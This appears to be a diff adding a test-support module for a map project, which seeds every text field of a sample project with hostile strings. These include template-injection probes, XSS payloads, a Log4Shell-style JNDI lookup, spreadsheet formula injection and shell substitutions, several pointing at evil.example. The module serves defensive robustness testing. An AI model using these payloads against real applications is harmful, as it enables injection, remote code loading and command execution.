@@ -1,0 +1,184 @@
+"""Hostile texts of our own, and a map project that carries texts wherever a project has text."""
+
+import json
+
+import yaml
+
+from geo.text.unicode_safety import compose, fold_space, hidden_character, mixed_word
+from tests.support.sample_project import feature, suite
+
+HIT = "https://evil.example"
+"""Where a text that is executed would send a request; no test may see one."""
+
+TEXTS = {
+    "templates": [
+        "{{ 7*191 }}", "{% for x in range(9) %}x{% endfor %}", "{# gone #}", "{{ config.items() }}", "{{ this.get_name() }}",
+        "{{ ''.__class__.__mro__[1].__subclasses__() }}", "${7*191}", "#{7*191}", "<%= 7*191 %>", "*{7*191}", "[[${7*191}]]",
+        "{{constructor.constructor('alert(1)')()}}", "{{=7*191}}", "@(7*191)", "{title} {n} {date} {0} {}", "%s %n %(title)s %x",
+        "{% raw %}", "{{ '}}' }}", "{%- include '/etc/passwd' -%}", "${jndi:ldap://evil.example/a}", "$(reboot)", "`reboot`",
+    ],
+    "markup": [
+        "<b>bold</b>", "<script>alert(1)</script>", f"<script src={HIT}/x.js></script>", "<img src=x onerror=alert(1)>",
+        f"<img src={HIT}/x.png>", "<svg onload=alert(1)>", "<svg><script>alert(1)</script></svg>", "<body onload=alert(1)>",
+        "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>", f"<iframe src={HIT}></iframe>", "<math><mtext></table><img src=x onerror=alert(1)>",
+        "<details open ontoggle=alert(1)>", "<input autofocus onfocus=alert(1)>", "<video><source onerror=alert(1)>", "<marquee onstart=alert(1)>",
+        "<a href='javascript:alert(1)'>a</a>", "<form action=javascript:alert(1)><button>b</button>", "<object data=javascript:alert(1)>",
+        f"<meta http-equiv=refresh content='0;url={HIT}'>", f"<base href={HIT}>", f"<link rel=stylesheet href={HIT}/x.css>",
+        f"<style>@import '{HIT}/x.css';*{{display:none}}</style>", f"<embed src={HIT}>", "<template><img src=x onerror=alert(1)></template>",
+        '"><img src=x onerror=alert(1)>', "'><img src=x onerror=alert(1)>", '" onmouseover="alert(1)', "' autofocus onfocus='alert(1)",
+        "<<img src=x onerror=alert(1)//", "<img/src=x/onerror=alert(1)>", "<IMG SRC=X ONERROR=ALERT(1)>", "<img src=`x` onerror=alert(1)>",
+        "&lt;img src=x onerror=alert(1)&gt;", "&#60;script&#62;alert(1)&#60;/script&#62;", "%3Cscript%3Ealert(1)%3C/script%3E", "<plaintext>", "<xmp>",
+        '<noscript><p title="</noscript><img src=x onerror=alert(1)>">', "</noscript><img src=x onerror=alert(1)>", "</title><img src=x onerror=alert(1)>",
+        "</style><img src=x onerror=alert(1)>", "</textarea><img src=x onerror=alert(1)>", '<img src=x onerror="document.vulnerable=1">',
+        '<div style="position:fixed;inset:0;background:red">', "<portal src=x>", "<foreignObject><img src=x onerror=alert(1)></foreignObject>",
+    ],
+    "script": [
+        "${alert(1)}", "`${alert(1)}`", "\\", "\\\\", "\\'", '\\"', "';alert(1)//", '";alert(1)//', "\\u003cscript\\u003ealert(1)", "\\x3cscript>",
+        "'+alert(1)+'", "</script", "</SCRIPT >", "</script><script>alert(1)</script>", "<!--", "-->", "<!--<script>", "]]>", "<![CDATA[x]]>", "//# sourceMappingURL=x",
+        "/* */ */", '{"__proto__": {"polluted": 1}}', "__proto__", "constructor", "toString", "hasOwnProperty", "null", "undefined", "NaN", "[object Object]",
+    ],
+    "addresses": ["javascript:alert(1)", "JaVaScRiPt:alert(1)", "data:text/html,<script>alert(1)</script>", "vbscript:x", "//evil.example", "file:///etc/passwd"],
+    "markdown": [
+        "[a](javascript:alert(1))", f"![a]({HIT}/x.png)", f"<{HIT}>", "**bold** _it_ `code`", "# heading", "> quote", "- item", "1. item", "| a | b |", "---",
+        ":material/delete:", ":red[red]", "$\\href{javascript:alert(1)}{x}$", "$$x^2$$", "~~gone~~", ":tada:", "[^1]", "\\[x\\]", "    code", "***",
+    ],
+    "tables": ["=1+1", "+1+1", "-1+1", "@SUM(1)", '=HYPERLINK("https://evil.example")', "=cmd|' /C calc'!A0", "＝1+1", "a;=1+1", '"a","b"', "1e5", "-12.5"],
+    "letters": [
+        "Ünïcödé", "Zw\u0308olf", "T\u0336h\u0336i\u0336s", "Z" + "\u0300\u0301\u0302\u0303\u0304" * 5, "ﷺ", "𝒳𝓎𝓏", "👩\u200d👩\u200d👧", "🏳\ufe0f\u200d🌈", "🇦🇲🇦🇿",
+        "עברית", "العربية", "فارسی می\u200cخواهم", "繁體中文", "日本語タワー", "한국어", "ไทยยยย", "नमस्ते", "Ստեփանակերտ", "Xankəndi", "Лачин", "ქართული",
+        "I İ ı i", "ß ẞ ſ", "ǅ", "\u00a0x\u00a0", "x\u3000y", "﷽", "a" * 5000, "word " * 800, "W" * 300, "\ufdd0", "\U000f0000", "\U0010fffd",
+    ],
+}  # fmt: skip
+"""By what they are meant to break. Most are old tricks, written anew for the places that text has here."""
+
+ALL = [text for texts in TEXTS.values() for text in texts]
+
+
+def strings():
+    """The Big List of Naughty Strings; the test is skipped where it is not to be had."""
+    return json.loads(suite("blns", "blns.json").read_text(encoding="utf-8"))
+
+
+def scalar(text):
+    """The text as a YAML scalar in double quotes, odd characters escaped."""
+    return yaml.safe_dump(text, default_style='"', width=10**6, allow_unicode=False).strip()
+
+
+def is_text(text):
+    """Whether a text can be read at all: not empty, and without what a reader cannot see."""
+    return bool(text.strip()) and not hidden_character(compose(text))
+
+
+def is_name(text):
+    return is_text(text) and not mixed_word(compose(text))
+
+
+def as_read(text):
+    """How a text comes back: composed, without white space around it."""
+    return compose(text.strip())
+
+
+HEAD = """\
+map:
+  title: {en: "<b>{{ 7*191 }}</b></title></script><!-- ${1}"}
+  description: {en: "\\" onload=alert(1) x=\\" {% x %} </script>"}
+  language: en
+  languages: [en, fr]
+  bounds: [10, 40, 20, 50]
+events:
+"""
+EVENT = """\
+  - id: n-{i}
+    title: {{en: {text}}}
+    date: "2020-03-05"
+    date_note: {{en: {text}}}
+    place: {{id: p-{i}}}
+    place_note: {{en: {text}}}
+    type: access
+    actors: [{name}]
+    review: verified
+    source: s-{i}
+    quote: {quote}
+    by: {name}
+    stance: claims
+    status: claimed
+    status_reason: {text}
+    note: {{en: {text}}}
+"""
+SOURCE = """\
+  - id: s-{i}
+    title: {text}
+    publisher: {text}
+    author: {text}
+    date: not stated
+    language: en
+    rights: full-text
+    text: s-{i}.txt
+"""
+PLACE = """\
+  - id: p-{i}
+    kind: {text}
+    point: [{lon}, {lat}]
+    precision_m: 500
+    names: {{en: [{name}]}}
+    label: 3
+    basis: sourced
+    citation: {text}
+"""
+LAYER = """\
+  - id: l-{i}
+    file: l-{i}.geojson
+    title: {{en: {text}}}
+    style: river
+    attribution: {text}
+    licence: {text}
+    note: {{en: {text}}}
+"""
+SIDE = 40
+
+
+def carrier(texts):
+    """The files of a project in which the i-th text is all that event, source, place and layer i say.
+
+    A text that cannot be a name (it mixes scripts) has a plain one beside it; a text that cannot be quoted alone,
+    because it stands twice in its source, is quoted with the word before it.
+    """
+    files = {"events.yaml": HEAD, "data/sources.yaml": "sources:\n"}
+    files |= {"data/places.yaml": "places:\n", "data/layers.yaml": "layers:\n"}
+    for i, text in enumerate(texts):
+        body = f"Before {i}.\n{text}\nAfter {i}."
+        quote = text if fold_space(body).count(fold_space(text)) == 1 else f"Before {i}. {text}"
+        lon, lat = 10.1 + i % SIDE * 0.24, 40.1 + i // SIDE * 0.24
+        values = {
+            "i": i,
+            "text": scalar(text),
+            "name": scalar(text) if is_name(text) else f"Name {i}",
+            "quote": scalar(quote),
+            "lon": f"{lon:.2f}",
+            "lat": f"{lat:.2f}",
+        }
+        for file, form in (
+            ("events.yaml", EVENT),
+            ("data/sources.yaml", SOURCE),
+            ("data/places.yaml", PLACE),
+            ("data/layers.yaml", LAYER),
+        ):
+            files[file] += form.format(**values)
+        files[f"data/sources/s-{i}.txt"] = body
+        line = {"type": "LineString", "coordinates": [[lon, lat], [lon + 0.1, lat + 0.1]]}
+        names = {"en": [text]} if is_name(text) else {}
+        item = feature(
+            line, id=f"f-{i}", names=names, source=text, licence=text, kind="river", status=[]
+        )
+        files[f"data/geojson/l-{i}.geojson"] = json.dumps(
+            {"type": "FeatureCollection", "features": [item]}
+        )
+    return {name: data.encode() for name, data in files.items()}
+
+
+def write(files, folder):
+    """Put a project's files on disk."""
+    for name, data in files.items():
+        (folder / name).parent.mkdir(parents=True, exist_ok=True)
+        (folder / name).write_bytes(data)
+    return folder
